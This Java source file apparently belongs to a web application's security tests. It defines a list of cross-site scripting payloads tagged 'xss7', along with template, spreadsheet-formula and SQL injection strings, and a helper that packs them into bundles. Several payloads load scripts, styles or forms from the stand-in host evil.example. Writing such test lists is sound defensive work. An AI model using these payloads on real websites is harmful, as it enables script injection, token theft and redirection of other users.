package org.upshift.access;

import java.util.ArrayList;
import java.util.List;

/** What somebody types who wants it to run in another one's browser. Each would leave a trace with the mark in it. */
final class Payloads {
    /** In every payload, so that a trace of one is found wherever it ends. */
    static final String MARK = "xss7";

    static final List<String> ALL = List.of(
            "<script>alert('xss7')</script>",
            "<SCRIPT SRC=//evil.example/xss7.js></SCRIPT>",
            "<scr<script>ipt>alert('xss7')</scr</script>ipt>",
            "\"><script>alert('xss7')</script>",
            "'><script>alert('xss7')</script>",
            "</title><script>alert('xss7')</script>",
            "</textarea><script>alert('xss7')</script>",
            "</script><script>alert('xss7')</script>",
            "--><script>alert('xss7')</script><!--",
            "]]><script>alert('xss7')</script>",
            "<img src=x onerror=alert('xss7')>",
            "<img src=\"x\" onerror=\"alert('xss7')\">",
            "<img/src=x/onerror=alert('xss7')>",
            "<IMG SRC=javascript:alert('xss7')>",
            "<img src=`x`onerror=alert('xss7')>",
            "<img src=x:x onerror\n=alert('xss7')>",
            "<svg onload=alert('xss7')>",
            "<svg/onload=alert('xss7')>",
            "<svg><script>alert('xss7')</script></svg>",
            "<svg><animate onbegin=alert('xss7') attributeName=x>",
            "<svg><a xlink:href=javascript:alert('xss7')><text>xss7</text></a></svg>",
            "<svg><use href=data:image/svg+xml,xss7#x>",
            "<math><mtext><style><img src=x onerror=alert('xss7')></style>",
            "<body onload=alert('xss7')>",
            "<iframe src=javascript:alert('xss7')></iframe>",
            "<iframe srcdoc=\"<script>alert('xss7')</script>\"></iframe>",
            "<object data=javascript:alert('xss7')></object>",
            "<embed src=//evil.example/xss7.swf>",
            "<video><source onerror=alert('xss7')></video>",
            "<audio src=x onerror=alert('xss7')>",
            "<details open ontoggle=alert('xss7')>",
            "<marquee onstart=alert('xss7')>xss7</marquee>",
            "<input autofocus onfocus=alert('xss7')>",
            "<select autofocus onfocus=alert('xss7')>",
            "<button formaction=javascript:alert('xss7')>xss7</button>",
            "<form action=//evil.example/xss7><input name=csrf-token>",
            "<a href=javascript:alert('xss7')>xss7</a>",
            "<a href=\"java&#x73;cript:alert('xss7')\">xss7</a>",
            "<a href=data:text/html,xss7>xss7</a>",
            "<base href=//evil.example/xss7/>",
            "<link rel=stylesheet href=//evil.example/xss7.css>",
            "<style>@import '//evil.example/xss7.css';</style>",
            "<p style=\"background:url(//evil.example/xss7)\">",
            "<meta http-equiv=refresh content=0;url=//evil.example/xss7>",
            "<template id=xss7><script>alert('xss7')</script></template>",
            "<h1 id=xss7 class=xss7>xss7</h1>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert('xss7')>\">",
            "<xss7 onclick=alert('xss7')>xss7</xss7>",
            "\" onmouseover=alert('xss7') x=\"",
            "' onmouseover=alert('xss7') x='",
            "\" autofocus onfocus=\"alert('xss7')",
            "` onmouseover=alert('xss7') x=`",
            "javascript:alert('xss7')",
            "JaVaScRiPt:alert('xss7')",
            "data:text/html,<script>alert('xss7')</script>",
            "vbscript:msgbox('xss7')",
            "&lt;script&gt;alert('xss7')&lt;/script&gt;",
            "&#60;script&#62;alert('xss7')&#60;/script&#62;",
            "%3Cscript%3Ealert('xss7')%3C/script%3E",
            "\\u003cscript\\u003ealert('xss7')\\u003c/script\\u003e",
            "＜script＞alert('xss7')＜/script＞",
            "<\u2028script>alert('xss7')</script>",
            "{inject:layout.nonce} xss7",
            "{#include layout}xss7{/include}",
            "{xss7.raw}",
            "${7*7}xss7",
            "#{7*7}xss7",
            "{{constructor.constructor('alert(7)')()}}xss7",
            "=HYPERLINK(\"//evil.example/xss7\")",
            "+cmd|'/c calc'!xss7",
            "@SUM(1+1)xss7",
            "-1+1 xss7",
            "# <img src=x onerror=alert('xss7')>",
            "- <img src=x onerror=alert('xss7')>",
            "[xss7](javascript:alert('xss7'))",
            "xss7' or '1'='1");

    private Payloads() {}

    /** The payloads in bundles, each as many as fit into so many characters. */
    static List<String> bundles(int length, String between) {
        var bundles = new ArrayList<String>();
        var bundle = new StringBuilder();
        for (String payload : ALL) {
            if (bundle.length() + payload.length() + 1 > length) {
                bundles.add(bundle.toString());
                bundle.setLength(0);
            }
            bundle.append(bundle.isEmpty() ? "" : between).append(payload);
        }
        bundles.add(bundle.toString());
        return bundles;
    }
}
